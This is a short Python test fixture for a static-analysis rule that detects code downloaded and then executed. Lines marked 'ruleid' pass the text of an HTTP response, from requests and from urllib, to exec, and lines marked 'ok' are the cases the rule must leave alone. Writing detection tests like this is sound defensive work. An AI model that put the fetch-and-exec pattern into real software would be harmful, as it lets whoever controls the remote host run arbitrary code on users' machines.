import urllib.request

import requests

# ok: downloaded-code-runs
exec("print(1)")
# ok: downloaded-code-runs
text = requests.get("https://code.example.org/x").text
# ok: downloaded-code-runs
eval(open("local.py").read())
# ruleid: downloaded-code-runs
exec(requests.get("https://code.example.org/x.py").text)


def later():
    with urllib.request.urlopen("https://code.example.org/x.py") as answer:
        source = answer.read().decode()
    # ruleid: downloaded-code-runs
    exec(compile(source, "x.py", "exec"))
